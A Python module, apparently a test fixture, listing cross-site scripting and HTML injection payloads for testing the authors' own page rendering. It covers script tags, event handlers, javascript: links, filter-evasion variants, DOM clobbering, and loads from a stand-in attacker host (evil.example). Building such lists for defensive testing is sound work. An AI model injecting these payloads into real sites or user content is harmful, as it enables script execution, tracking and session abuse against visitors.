"""Texts that attack whoever reads them: written for our own pages, each with the way in that it tries."""

SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script/xss>alert(1)</script>", "<script\x0b>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7|add:7 }} {% load static %}", "${alert(1)}", "<template><script>alert(1)</script></template>",
)  # fmt: skip
EVENTS = (
    "<img src=x onerror=alert(1)>", "<img/src='x'/onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><script>alert(1)</script>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<math href='javascript:alert(1)'>x</math>",
    "<details open ontoggle=alert(1)>a</details>", "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>a</marquee>",
    "<p onmouseover=alert(1)>a</p>", "<b/onclick=alert(1)>a</b>", "<a onclick=alert(1) href=#>a</a>",
    "<select onfocus=alert(1) autofocus>", "<keygen autofocus onfocus=alert(1)>",
    "<div onpointerenter=alert(1)>a</div>",
)  # fmt: skip
LINKS = (
    "[a](javascript:alert(1))", "[a](JAVASCRIPT:alert(1))", "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))", "[a](vbscript:msgbox(1))", "[a](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>", "[a]: javascript:alert(1)\n\n[a]", "<a href=' javascript:alert(1)'>a</a>",
    "<a href='\x01javascript:alert(1)'>a</a>", "![a](javascript:alert(1))", "[![a](x)](javascript:alert(1))",
    "<a href='file:///etc/passwd'>a</a>", "[a](blob:https://evil.example/1)",
    "<a target=_top href=//evil.example>a</a>",
)  # fmt: skip
LOADS = (
    "![a](https://evil.example/pixel.png)", "![a](//evil.example/pixel.png)",
    "<img srcset='https://evil.example/a 1x'>",
    "<img src='https://evil.example/a'>", "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<b>'></iframe>",
    "<object data='https://evil.example'></object>", "<embed src='https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>", "<style>@import 'https://evil.example/a.css';</style>",
    "<div style='background:url(https://evil.example/a)'>a</div>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='https://evil.example/'>", "<form action='https://evil.example'><button>a</button></form>",
    "<video poster='https://evil.example/a'></video>", "<svg><image href='https://evil.example/a'/></svg>",
    "<svg><use href='data:image/svg+xml,x'/></svg>", "<table background='https://evil.example/a'><tr><td>a</table>",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)", "<img src='/admin/logout/'>",
)  # fmt: skip
CLOBBERS = (
    "<p id='desk-form'>a</p>", "<a name='location' id='location'>a</a>", "<img name='cookie'>",
    "<li id='content'>a</li>",
    "<b class='fixed inset-0'>a</b>", "<code class='bs-button'>a</code>", "[^desk-form]\n\n[^desk-form]: a",
    "\u202eevil\u202c", "a\u0000b", "\x1b[31mred",
)  # fmt: skip
ATTACKS = (*SCRIPTS, *EVENTS, *LINKS, *LOADS, *CLOBBERS)
